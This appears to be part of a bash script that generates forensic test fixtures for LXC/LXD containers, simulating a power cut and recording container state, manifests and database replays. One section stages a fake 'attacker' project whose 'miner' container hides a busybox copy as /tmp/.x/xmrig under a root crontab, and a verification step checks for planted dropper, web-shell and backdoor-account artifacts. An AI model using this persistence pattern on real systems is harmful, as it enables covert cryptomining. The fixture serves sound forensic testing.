  lxd_exec lxd-live 'setsid sh -c "i=0; while :; do i=\$((i+1)); echo \"tick \$i \$(date -u +%FT%TZ)\" >> /var/log/ticks.log; echo \"tick \$i\" > /dev/console; sleep 1; done" </dev/null >/dev/null 2>&1 &'
  ev lxd-live:ticker

  # --- project attacker (own images and profiles): miner, running at the cut
  lx project create attacker -c features.images=true -c features.profiles=true >/dev/null
  lx project set attacker user.created-by=mallory
  lx profile device add default root disk path=/ pool=default --project attacker >/dev/null
  lx image import "$SCRATCH/image/csx-busybox.tar.xz" --alias csx/busybox --project attacker >/dev/null
  LXP=attacker lx init csx/busybox miner --project attacker >/dev/null
  lx start miner --project attacker; LXP=attacker wait_lxd_running miner; ev attacker/miner:started
  LXP=attacker lxd_exec miner 'mkdir -p /tmp/.x && cp /bin/busybox /tmp/.x/xmrig && mkdir -p /etc/crontabs && echo "* * * * * /tmp/.x/xmrig" > /etc/crontabs/root
setsid sh -c "while :; do sleep 5; done" </dev/null >/dev/null 2>&1 &
echo "miner: started" > /dev/console'
  ev attacker/miner:payload

  step_lxd_raft_snapshot
  remember_pids
}

# dqlite takes a raft snapshot every 1024 log entries (threshold) and keeps 8192 trailing
# entries: churn a config key until a snapshot-* file appears, so the fixture has one.
step_lxd_raft_snapshot() {
  local i g=/var/lib/lxd/database/global
  log "step_lxd_raft_snapshot: churning user.rev on lxd-never until dqlite snapshots"
  for i in $(seq 1 1500); do
    lx config set lxd-never user.rev="$i"
    if compgen -G "$g/snapshot-*.meta" >/dev/null; then break; fi
  done
  note lxd_raft_churn_sets "$i"
  ev lxd:raft-snapshot-seen
  note lxd_global_files "$(ls "$g" | tr '\n' ' ')"
}

# ----------------------------------------------------------------------------------------
# The engines' own record (before the power cut)
# ----------------------------------------------------------------------------------------
LXC_INFO_KEYS="lxc.uts.name lxc.rootfs.path lxc.idmap lxc.log.file lxc.log.level lxc.console.logfile
lxc.start.auto lxc.start.delay lxc.group lxc.environment lxc.cap.drop lxc.hook.pre-start lxc.include
lxc.net.0.type lxc.net.0.hwaddr lxc.net.0.ipv4.address lxc.net.0.veth.pair lxc.mount.entry
lxc.mount.auto lxc.apparmor.profile lxc.signal.halt lxc.init.cmd lxc.tty.max lxc.autodev"

step_record_lxc() {
  local o="$E/lxc" n k
  log "step_record_lxc -> engine/lxc/"
  mkdir -p "$o"/{info,config,snapshots,attach}
  lxc-start --version >"$o/version.txt"
  lxc-ls -1 >"$o/lxc-ls.txt"
  lxc-ls -f >"$o/lxc-ls-f.txt"
  lxc-ls --fancy -F NAME,STATE,PID,RAM,SWAP,AUTOSTART,GROUPS,INTERFACE,IPV4,IPV6,UNPRIVILEGED >"$o/lxc-ls-fancy-all.txt"
  lxc-ls --running -1 >"$o/lxc-ls-running.txt"
  lxc-ls --stopped -1 >"$o/lxc-ls-stopped.txt"
  lxc-config -l >"$o/lxc-config-keys.txt"
  for k in $(cat "$o/lxc-config-keys.txt"); do printf '%s = %s\n' "$k" "$(lxc-config "$k")"; done >"$o/lxc-config.txt"
  # lxc-ls has no JSON output: this is the fancy table above, split into fields
  "$PYTHON" - "$o/lxc-ls-fancy-all.txt" >"$o/lxc-ls-fancy-all.json" <<'PY'
import json, re, sys
lines = open(sys.argv[1]).read().splitlines()
head = lines[0]
cols = [(m.start(), m.group()) for m in re.finditer(r"\S+", head)]
rows = []
for ln in lines[1:]:
    if not ln.strip():
        continue
    r = {}
    for i, (start, name) in enumerate(cols):
        end = cols[i + 1][0] if i + 1 < len(cols) else None
        r[name] = ln[start:end].strip()
    rows.append(r)
print(json.dumps({"command": "lxc-ls --fancy -F NAME,STATE,PID,RAM,SWAP,AUTOSTART,GROUPS,INTERFACE,IPV4,IPV6,UNPRIVILEGED",
                  "note": "split from the text table by column position", "rows": rows}, indent=1))
PY
  for n in $(lxc-ls -1); do
    lxc-info -n "$n" >"$o/info/$n.txt" 2>&1 || true
    lxc-info -n "$n" -H >"$o/info/$n.H.txt" 2>&1 || true
    # lxc-info -c KEY: the value as liblxc loaded it (includes resolved); a multi-valued key
    # prints "KEY = first" then one further value per line
    for k in $LXC_INFO_KEYS; do
      lxc-info -n "$n" -c "$k" 2>/dev/null | jq -Rn --arg k "$k" \
        '{($k): [inputs | select(length > 0)] | (if length > 0 then .[0] |= (ltrimstr($k + " =") | ltrimstr(" ")) else . end) | map(select(length > 0))}'
    done | jq -s add >"$o/config/$n.loaded.json"
    cp "/var/lib/lxc/$n/config" "$o/config/$n.config"
    lxc-snapshot -n "$n" -L -C >"$o/snapshots/$n.txt" 2>&1 || true
  done
  # the unprivileged user's LXC (lxcpath ~/.local/share/lxc), as that user sees it
  mkdir -p "$o/user-csx"
  as_user lxc-ls -f >"$o/user-csx/lxc-ls-f.txt" 2>&1 || true
  as_user lxc-info -n userbox >"$o/user-csx/info.userbox.txt" 2>&1 || true
  for k in lxc.rootfs.path lxc.idmap lxc.log.file lxc.log.level; do as_user lxc-info -n userbox -c "$k"; done \
    >"$o/user-csx/config.userbox.loaded.txt" 2>&1 || true
  as_user lxc-config lxc.lxcpath >"$o/user-csx/lxc-config-lxcpath.txt" 2>&1 || true
  cp /home/csx/.local/share/lxc/userbox/config "$o/user-csx/userbox.config"
  cp /home/csx/.config/lxc/default.conf "$o/user-csx/default.conf"
  attach running ps >"$o/attach/running.ps.txt" 2>&1 || true
  attach running cat /proc/1/cmdline >"$o/attach/running.proc1-cmdline.bin" 2>&1 || true
  # the unprivileged container's rootfs as its own root sees it (ids mapped back), via
  # lxc-usernsexec into the same user namespace mapping
  lxc-usernsexec -m u:0:100000:65536 -m g:0:100000:65536 -- tar --numeric-owner --format=posix \
    --pax-option=delete=atime,delete=ctime -C /var/lib/lxc/unpriv/rootfs -cf - . 2>/dev/null |
    "$PYTHON" "$TOOLS/tar_manifest.py" container=unpriv \
      "command=lxc-usernsexec -m u:0:100000:65536 -m g:0:100000:65536 -- tar --numeric-owner --format=posix -C /var/lib/lxc/unpriv/rootfs -cf - ." \
      >"$o/usernsexec-unpriv-rootfs.json"
  note lxc_record_captured "$(now)"
}

lxd_projects() { lx project list --format json | jq -r '.[].name'; }

step_record_lxd() {
  local o="$E/lxd" p n s fp d
  log "step_record_lxd -> engine/lxd/"
  mkdir -p "$o"/{instances,images,profiles,projects,storage,export}
  lx version >"$o/version.txt"
  lx query /1.0 | jq . >"$o/server.json"
  lx list --all-projects >"$o/list.txt"
  lx list --all-projects --format json | jq . >"$o/list.json"
  lx query '/1.0/instances?recursion=2&all-projects=true' | jq . >"$o/api-instances-recursion2.json"
  lx project list --format json | jq . >"$o/projects.json"
  lx project list >"$o/projects.txt"
  lx storage list --format json | jq . >"$o/storage/pools.json"
  lx storage show default >"$o/storage/default.yaml"
  lx storage info default >"$o/storage/default.info.txt" 2>&1 || true
  lx operation list --format json 2>/dev/null | jq . >"$o/operations.json" || true
  lx warning list --format json 2>/dev/null | jq . >"$o/warnings.json" || true
  for p in $(lxd_projects); do
    lx project show "$p" >"$o/projects/$p.yaml"
    lx project info "$p" >"$o/projects/$p.info.txt" 2>&1 || true
    lx image list --project "$p" --format json | jq . >"$o/images/list.$p.json"
    lx image list --project "$p" >"$o/images/list.$p.txt"
    for fp in $(lx image list --project "$p" --format csv -c f); do
      fp=$(lx query "/1.0/images?project=$p" | jq -r '.[]' | sed 's,.*/,,' | grep "^$fp" | head -n1)
      lx image info "$fp" --project "$p" >"$o/images/$p.$fp.info.txt"
      lx image show "$fp" --project "$p" >"$o/images/$p.$fp.yaml"
      lx query "/1.0/images/$fp?project=$p" | jq . >"$o/images/$p.$fp.json"
    done
    lx profile list --project "$p" --format json | jq . >"$o/profiles/list.$p.json"
    for n in $(lx profile list --project "$p" --format json | jq -r '.[].name'); do
      lx profile show "$n" --project "$p" >"$o/profiles/$p.$n.yaml"
    done
    lx storage volume list default --project "$p" --format json | jq . >"$o/storage/volumes.$p.json"
    lx storage volume list default --project "$p" >"$o/storage/volumes.$p.txt"
    for n in $(lx list --project "$p" --format csv -c n); do
      d="$o/instances/$p/$n"; mkdir -p "$d"
      lx info "$n" --project "$p" >"$d/info.txt" 2>&1
      lx info "$n" --project "$p" --show-log >"$d/info-show-log.txt" 2>&1 || true
      lx config show "$n" --project "$p" >"$d/config.yaml"
      lx config show "$n" --project "$p" --expanded >"$d/config-expanded.yaml"
      lx query "/1.0/instances/$n?project=$p&recursion=1" | jq . >"$d/api.json"
      lx query "/1.0/instances/$n/state?project=$p" | jq . >"$d/state.json"
      lx query "/1.0/instances/$n/snapshots?project=$p&recursion=1" | jq . >"$d/snapshots.json"
      lx query "/1.0/instances/$n/logs?project=$p" | jq . >"$d/logs-list.json" 2>/dev/null || true
      lx console "$n" --project "$p" --show-log >"$d/console-show-log.txt" 2>&1 || true
      for s in $(lx query "/1.0/instances/$n/snapshots?project=$p" | jq -r '.[]' | sed 's,.*/,,'); do
        lx config show "$n/$s" --project "$p" >"$d/snapshot.$s.config.yaml"
      done
    done
  done
  # LXD's own export (instance + snapshots): the rootfs as LXD packs it, ids as the
  # container sees them
  for n in lxd-unpriv lxd-snap; do
    lx export "$n" "$SCRATCH/export-$n.tar.gz" --optimized-storage=false >/dev/null
    "$PYTHON" "$TOOLS/tar_manifest.py" instance="$n" project=default \
      "command=lxc export $n <file>.tar.gz --optimized-storage=false" \
      <"$SCRATCH/export-$n.tar.gz" >"$o/export/$n.json"
    rm -f "$SCRATCH/export-$n.tar.gz"
  done
  note lxd_record_captured "$(now)"
}

# Wait until LXD has no operation left, so that nothing writes between the dump and the cut
wait_lxd_quiet() {
  local i n
  for i in $(seq 1 60); do
    n=$(lx operation list --format json | jq length)
    [ "$n" = 0 ] && break
    sleep 0.5
  done
  note lxd_operations_left_before_dump "$n"
  sleep 2
}

# ----------------------------------------------------------------------------------------
# Power cut
# ----------------------------------------------------------------------------------------
step_powercut() {
  local v p i
  # the databases last, right before the cut (see wait_lxd_quiet); the victims are listed
  # first, because scanning /proc is slow on a busy machine
  wait_lxd_quiet
  v=$(victim_pids)
  for p in $v; do
    c=$(tr '\0' ' ' 2>/dev/null </proc/$p/cmdline | cut -c1-100 | sed 's/ *$//') || c=""
    [ -n "$c" ] && printf '%s\t%s\n' "$p" "$c"
  done >"$SCRATCH/victims.tsv" 2>/dev/null || true
  lxd sql local .dump >"$E/lxd/sql-local-dump.sql"
  lxd sql global .dump >"$E/lxd/sql-global-dump.sql"
  note lxd_sql_dump_at "$(now)"
  note powercut_at "$(now)"
  # shellcheck disable=SC2086
  kill -9 $v 2>/dev/null || true
  log "step_powercut: killed $v"
  note powercut_killed "$(awk -F'\t' '{print $2}' "$SCRATCH/victims.tsv" | paste -sd'|' -)"
  wait "$LXD_PID" 2>/dev/null || true
  for p in $v; do for i in $(seq 1 40); do [ -d "/proc/$p" ] && [ "$(awk '{print $3}' /proc/$p/stat 2>/dev/null)" != Z ] || break; sleep 0.25; done; done
  CUT_DONE=1; LXD_PID=""
  note powercut_mounts_left "$(submounts_under /var/lib/lxd /var/lib/lxc /var/log /run | sort | tr '\n' ' ')"
  local m
  for m in $(submounts_under /var/lib/lxd /var/lib/lxc /var/log /run); do umount "$m" 2>/dev/null || umount -l "$m"; done
  [ -z "$(submounts_under /var/lib/lxd /var/lib/lxc /var/log)" ] || die "mounts remain after the cut"
}

# ----------------------------------------------------------------------------------------
# Manifests of every rootfs as stored on disk (after the cut), pack, verify
# ----------------------------------------------------------------------------------------
# "<manifest name>\t<path relative to the sysroot>" for every tree worth a manifest
manifest_list() {
  local n s p
  for n in web unpriv db never running; do printf 'lxc.%s.rootfs\tvar/lib/lxc/%s/rootfs\n' "$n" "$n"; done
  printf 'lxc.web-clone.delta\tvar/lib/lxc/web-clone/overlay/delta\n'
  printf 'lxc-user.userbox.rootfs\thome/csx/.local/share/lxc/userbox/rootfs\n'
  for s in "$SYS"/var/lib/lxc/*/snaps/*/rootfs; do
    n=${s#"$SYS"/var/lib/lxc/}; n=${n%%/*}; p=${s%/rootfs}; p=${p##*/}
    printf 'lxc.%s.snap.%s.rootfs\t%s\n' "$n" "$p" "${s#"$SYS"/}"
  done
  for s in "$SYS"/var/lib/lxd/storage-pools/default/containers/*/rootfs; do
    n=${s%/rootfs}; n=${n##*/}
    printf 'lxd.%s.rootfs\t%s\n' "$n" "${s#"$SYS"/}"
  done
  for s in "$SYS"/var/lib/lxd/storage-pools/default/containers-snapshots/*/*/rootfs; do
    p=${s%/rootfs}; n=${p%/*}; n=${n##*/}; p=${p##*/}
    printf 'lxd.%s.snap.%s.rootfs\t%s\n' "$n" "$p" "${s#"$SYS"/}"
  done
  for s in "$SYS"/var/lib/lxd/storage-pools/default/custom/*; do
    printf 'lxd.volume.%s\t%s\n' "${s##*/}" "${s#"$SYS"/}"
  done
}

step_manifests() {
  local name rel
  log "step_manifests -> engine/manifests/"
  manifest_list >"$SCRATCH/manifests.tsv"
  while IFS=$'\t' read -r name rel; do
    "$PYTHON" "$TOOLS/tree_manifest.py" "$SYS/$rel" "tree=$name" "path=/$rel" "source=on-disk after the power cut" \
      >"$E/manifests/$name.json"
  done <"$SCRATCH/manifests.tsv"
}

TAR_OPTS=(--xattrs --xattrs-include='*' --numeric-owner --sparse --format=posix
  --pax-option=exthdr.name=%d/PaxHeaders/%f,delete=atime,delete=ctime)

step_pack() {
  local tb="$STAGE/sysroot.tar.xz"
  log "step_pack -> sysroot.tar.xz"
  note unpacked_bytes "$(du -sb "$SYS" | cut -f1)"
  XZ_OPT=-9 tar "${TAR_OPTS[@]}" --sort=name --warning=no-file-ignored -C "$SYS" -cJf "$tb" \
    var/lib/lxc etc/lxc var/log/lxc var/log/lxd var/lib/lxd etc/subuid etc/subgid home/csx
  note tarball_bytes "$(stat -c %s "$tb")"
  note tarball_sha256 "$(sha256sum "$tb" | cut -d' ' -f1)"
  note tarball_members "$(tar -tJf "$tb" | wc -l)"
}

step_verify() {
  local x="$SCRATCH/verify" mnt="$SCRATCH/verify-mnt" name rel g ok=1
  log "step_verify: round trip of sysroot.tar.xz"
  rm -rf "$x"; mkdir -p "$x" "$mnt"
  tar --xattrs --xattrs-include='*' --numeric-owner -C "$x" -xJf "$STAGE/sysroot.tar.xz"
  # 1. every manifest again from the unpacked copy: must be identical (directory sizes aside)
  while IFS=$'\t' read -r name rel; do
    "$PYTHON" "$TOOLS/tree_manifest.py" "$x/$rel" "tree=$name" "path=/$rel" "source=on-disk after the power cut" \
      >"$SCRATCH/verify-$name.json"
    if ! "$PYTHON" - "$E/manifests/$name.json" "$SCRATCH/verify-$name.json" <<'PY'
import json, sys
a, b = (json.load(open(p)) for p in sys.argv[1:3])
def norm(m):
    m = dict(m)
    if m["type"] == "dir":
        m.pop("size")
    if m["type"] == "char" and m.get("devmajor") == 0 and m.get("devminor") == 0:
        # the kernel links all whiteouts of an upper dir to one inode (nlink > 1, shared
        # with work/work/#NN); GNU tar does not record hard links of device nodes
        m.pop("nlink"); m.pop("hardlink_of", None)
    return m
ma, mb = [norm(m) for m in a["members"]], [norm(m) for m in b["members"]]
if ma != mb:
    for x, y in zip(ma, mb):
        if x != y:
            print("first difference:", x, y, file=sys.stderr)
            break
    print("member counts", len(ma), len(mb), file=sys.stderr)
    sys.exit(1)
PY
    then log "verify: manifest $name differs after the round trip"; ok=0; fi
  done <"$SCRATCH/manifests.tsv"
  note verify_manifests_round_trip "$([ $ok = 1 ] && echo identical || echo DIFFERENT)"
  # 2. whiteouts and opaque directories of the overlay clone
  note verify_web_clone_whiteouts "$(jq .whiteouts_char00 "$E/manifests/lxc.web-clone.delta.json")"
  note verify_web_clone_opaque_dirs "$(jq .opaque_dirs "$E/manifests/lxc.web-clone.delta.json")"
  [ "$(jq .whiteouts_char00 "$E/manifests/lxc.web-clone.delta.json")" -gt 0 ] || { log "verify: no whiteout"; ok=0; }
  [ "$(jq .opaque_dirs "$E/manifests/lxc.web-clone.delta.json")" -gt 0 ] || { log "verify: no opaque dir"; ok=0; }
  # 3. the kernel's own read-only overlay mount of the clone (upper over lower)
  mount -t overlay overlay -o "ro,lowerdir=$x/var/lib/lxc/web-clone/overlay/delta:$x/var/lib/lxc/web/rootfs" "$mnt"
  "$PYTHON" "$TOOLS/tree_manifest.py" "$mnt" tree=lxc.web-clone.merged \
    "source=mount -t overlay overlay -o ro,lowerdir=<sysroot>/var/lib/lxc/web-clone/overlay/delta:<sysroot>/var/lib/lxc/web/rootfs" \
    >"$E/manifests/lxc.web-clone.overlay-mount.json"
  note verify_web_clone_mount "$(cd "$mnt" && printf 'upload.php=%s dropper=%s dropper-hl=%s opt/app=[%s] eve=%s www=%s www-old=[%s]' \
    "$([ -e srv/www/upload.php ] && echo present || echo absent)" \
    "$([ -e tmp/dropper ] && echo present || echo absent)" \
    "$([ -e tmp/.dropper-hl ] && echo present || echo absent)" \
    "$(ls -A opt/app | tr '\n' ' ' | sed 's/ $//')" "$(grep -c '^eve:' etc/passwd || true)" \
    "$([ -e srv/www ] && echo present || echo absent)" "$(ls -A srv/www-old | tr '\n' ' ' | sed 's/ $//')")"
  umount "$mnt"
  # 4. the dqlite raft log replayed must equal `lxd sql global .dump`
  g="$x/var/lib/lxd/database/global"
  if "$PYTHON" "$TOOLS/dqlite_replay.py" "$g" --from log --compare "$E/lxd/sql-global-dump.sql" \
       --json "$E/lxd/replay-from-log.json"; then note verify_replay_from_log identical
  else
    # the engine wrote after the dump: which raft index does the dump correspond to?
    "$PYTHON" "$TOOLS/dqlite_replay.py" "$g" --from log --find-match "$E/lxd/sql-global-dump.sql" \
      --json "$E/lxd/replay-find-match.json" || true
    note verify_replay_from_log "DIFFERENT at the cut; dump equals the replay after raft index(es) $(jq -c .find_match.identical_after_indexes "$E/lxd/replay-find-match.json") of $(jq .last_applied_index "$E/lxd/replay-find-match.json")"
    [ "$(jq '.find_match.identical_after_indexes | length' "$E/lxd/replay-find-match.json")" -gt 0 ] || { log "verify: replay never equals the dump"; ok=0; }
  fi
  if compgen -G "$g/snapshot-*.meta" >/dev/null; then
    if "$PYTHON" "$TOOLS/dqlite_replay.py" "$g" --from snapshot --compare "$E/lxd/sql-global-dump.sql" \
         --json "$E/lxd/replay-from-snapshot.json"; then note verify_replay_from_snapshot identical
    else
      note verify_replay_from_snapshot DIFFERENT
      [ "$(jq -r .database.sha256 "$E/lxd/replay-from-snapshot.json")" = "$(jq -r .database.sha256 "$E/lxd/replay-from-log.json")" ] \
        || { log "verify: snapshot replay and log replay give different images"; ok=0; }
    fi
    local s
    for s in "$g"/snapshot-*; do
      case "$s" in *.meta) continue ;; esac
      if command -v lz4 >/dev/null; then
        note "verify_lz4_cli:${s##*/}" "$(lz4 -dc "$s" | sha256sum | cut -d' ' -f1)"
      fi
    done
  fi
  note verify_local_db_tables "$(sqlite3 "$x/var/lib/lxd/database/local.db" "SELECT group_concat(name, ' ') FROM (SELECT name FROM sqlite_master WHERE type='table' ORDER BY name)")"
  rm -rf "$x"
  [ "$ok" = 1 ] || die "verification failed"
  note verify ok
}

# ----------------------------------------------------------------------------------------
# scenario.json: names, kinds, projects, states, idmaps, times (tests take ids from here)
# ----------------------------------------------------------------------------------------
write_scenario_json() {
  log "write_scenario_json"
  "$PYTHON" - "$NOTES" "$E" "$SCRATCH/manifests.tsv" >"$E/scenario.json" <<'PY'
import json, os, sys
notes_p, E, mlist = sys.argv[1:4]
notes, events = {}, {}
for ln in open(notes_p, encoding="utf-8"):
    k, _, v = ln.rstrip("\n").partition("\t")
    if k.startswith("event:"):
        who, _, what = k[6:].rpartition(":")
        events.setdefault(who, {})[what] = v
    else:
        notes[k] = v
def rootfs_spec_file(path):  # as written in the config file (lxc-info -c drops the backend prefix)
    for ln in open(path):
        if ln.startswith("lxc.rootfs.path"):
            return ln.split("=", 1)[1].strip()
def rootfs_spec(n):
    return rootfs_spec_file(os.path.join(E, "lxc/config/%s.config" % n))
lxc_rows = {r["NAME"]: r for r in json.load(open(os.path.join(E, "lxc/lxc-ls-fancy-all.json")))["rows"]}
def loaded(n):
    d = json.load(open(os.path.join(E, "lxc/config/%s.loaded.json" % n)))
    return {k: (v if k in ("lxc.idmap", "lxc.mount.entry", "lxc.environment", "lxc.cap.drop") else (v[0] if v else None))
            for k, v in d.items()}
LXC = [
 ("web", "privileged, dir backend, veth with a static address, lxc.log.file + console log at INFO, lxc.include; added/changed/deleted files; stopped cleanly", "stopped"),
 ("web-clone", "overlay clone of web (lxc-copy -s -B overlay); deleted/replaced/renamed/added files in the upper dir; stopped cleanly", "stopped"),
 ("unpriv", "unprivileged (lxc.idmap u/g 0 100000 65536), rootfs shifted on disk; log file only from lxc-start -o; added/changed/deleted files; stopped", "stopped"),
 ("db", "privileged; two lxc-snapshots (snap0 with a comment, snap1 without) between runs, data wiped after snap1; log in its own directory at DEBUG", "stopped"),
 ("never", "created from the template, never started; lxc.start.auto, a host pre-start hook, lxc.include outside the sysroot", "never-started"),
 ("running", "privileged; ticker writing /var/log/ticks.log and the console; RUNNING at the power cut; lxc.log.level without lxc.log.file", "running-at-cut"),
]
# where each container's logs ended up (checked on disk; see README)
LOGS = {
 "web": ["/var/log/lxc/web.log (lxc.log.file, INFO; web-clone's starts and the record's lxc-info/lxc-attach calls append to it too)",
         "/var/log/lxc/web.console.log (lxc.console.logfile; shared with web-clone)"],
 "web-clone": ["/var/log/lxc/web.log and /var/log/lxc/web.console.log: lxc-copy kept web's lxc.log.file and lxc.console.logfile"],
 "unpriv": ["/var/log/lxc/unpriv-start.log (lxc-start -o ... -l INFO; not in the config)",
            "/var/log/lxc/unpriv.console.log (lxc.console.logfile)"],
 "db": ["/var/lib/lxc/db/db.log (lxc.log.file inside its own directory, DEBUG)"],
 "never": [],
 "running": ["/var/log/lxc/running.console.log (lxc.console.logfile); lxc.log.level=INFO without lxc.log.file wrote no log file"],
}
lxc = []
for n, what, state in LXC:
    cfg = loaded(n)
    idmap = cfg.get("lxc.idmap")
    lxc.append({"engine": "lxc", "name": n, "lxcpath": "/var/lib/lxc", "what": what,
                "state_at_cut": state, "state_recorded": lxc_rows.get(n, {}).get("STATE"),
                "pid_recorded": lxc_rows.get(n, {}).get("PID"),
                "unprivileged": lxc_rows.get(n, {}).get("UNPRIVILEGED") == "true",
                "idmap": idmap or [],
                "rootfs_path": rootfs_spec(n),
                "rootfs_path_lxc_info": cfg.get("lxc.rootfs.path"),
                "log_file": cfg.get("lxc.log.file"), "log_level": cfg.get("lxc.log.level"),
                "console_logfile": cfg.get("lxc.console.logfile"),
                "log_files_on_disk": LOGS.get(n, []),
                "events_utc": events.get(n, {})})
lxc.append({"engine": "lxc", "name": "userbox", "lxcpath": "/home/csx/.local/share/lxc",
            "owner": {"user": "csx", "uid": 1500, "gid": 1500, "subuid": "200000:65536"},
            "what": "unprivileged USER's container (lxc-create/lxc-start as uid 1500, ids 200000+ via newuidmap), started with -l INFO and no -o, added/changed/deleted files, stopped with lxc-stop -k",
            "state_at_cut": "stopped", "unprivileged": True,
            "idmap": ["u 0 200000 65536", "g 0 200000 65536"],
            "rootfs_path": rootfs_spec_file(os.path.join(E, "lxc/user-csx/userbox.config")),
            "log_files_on_disk": ["/home/csx/.local/share/lxc/userbox/userbox.log (lxc-start -l INFO without -o: the default <lxcpath>/<name>/<name>.log)"],
            "events_utc": events.get("userbox", {})})
lst = json.load(open(os.path.join(E, "lxd/list.json")))
LXDW = {
 ("default", "lxd-priv"): ("security.privileged=true: container ids on disk; wrote/changed/deleted files; stopped", "stopped"),
 ("default", "lxd-unpriv"): ("unprivileged, profiles default+hardened, custom volume csxdata at /data; added/changed/deleted files (ids shifted on disk); stopped", "stopped"),
 ("default", "lxd-never"): ("created, never started; user.rev churned until dqlite wrote a raft snapshot", "never-started"),
 ("default", "lxd-snap"): ("snap0 (stopped), snap1 (taken while running), data wiped after snap1; stopped", "stopped"),
 ("default", "lxd-live"): ("ticker writing /var/log/ticks.log and the console; RUNNING at the power cut", "running-at-cut"),
 ("attacker", "miner"): ("project attacker (own images and profiles): drops /tmp/.x/xmrig and a crontab; RUNNING at the power cut", "running-at-cut"),
}
lxd = []
for i in lst:
    key = (i.get("project", "default"), i["name"])
    what, state = LXDW.get(key, ("", ""))
    c = i.get("config", {})
    lxd.append({"engine": "lxd", "project": key[0], "name": i["name"],
                "on_disk_name": i["name"] if key[0] == "default" else "%s_%s" % key,
                "what": what, "state_at_cut": state, "status_recorded": i.get("status"),
                "type": i.get("type"), "privileged": c.get("security.privileged") == "true",
                "profiles": i.get("profiles"), "uuid": c.get("volatile.uuid"),
                "base_image": c.get("volatile.base_image"),
                "idmap_current": json.loads(c.get("volatile.idmap.current") or "[]"),
                "last_state_idmap": json.loads(c.get("volatile.last_state.idmap") or "[]"),
                "created_at": i.get("created_at"), "last_used_at": i.get("last_used_at"),
                "pid_recorded": (i.get("state") or {}).get("pid"),
                "snapshots": [{"name": s["name"], "created_at": s.get("created_at")} for s in (i.get("snapshots") or [])],
                "events_utc": events.get(i["name"] if key[0] == "default" else "%s/%s" % key, {})})
manifests = {}
for ln in open(mlist):
    name, rel = ln.rstrip("\n").split("\t")
    manifests[name] = {"path": "/" + rel, "file": "manifests/%s.json" % name}
manifests["lxc.web-clone.overlay-mount"] = {
    "path": "(kernel overlay mount, read-only: lowerdir=/var/lib/lxc/web-clone/overlay/delta:/var/lib/lxc/web/rootfs)",
    "file": "manifests/lxc.web-clone.overlay-mount.json"}
out = {"generator": "testdata/lxc/generate.sh", "sysroot_tarball": "sysroot.tar.xz",
       "timezone": notes.get("tz"), "lxc": lxc, "lxd": lxd,
       "lxd_other_events_utc": {k: v for k, v in events.items() if k in ("lxd",)},
       "powercut": {"at_utc": notes.get("powercut_at"), "sql_dump_at_utc": notes.get("lxd_sql_dump_at"),
                    "killed_processes": [x for x in notes.get("powercut_killed", "").split("|") if x],
                    "mounts_left": notes.get("powercut_mounts_left", "").split()},
       "manifests": manifests, "notes": notes}
print(json.dumps(out, indent=1, ensure_ascii=False))
PY
}

# ========================================================================================
if [ "${1:-}" = __inner ]; then inner_main "$2"; else outer_main "$@"; fi
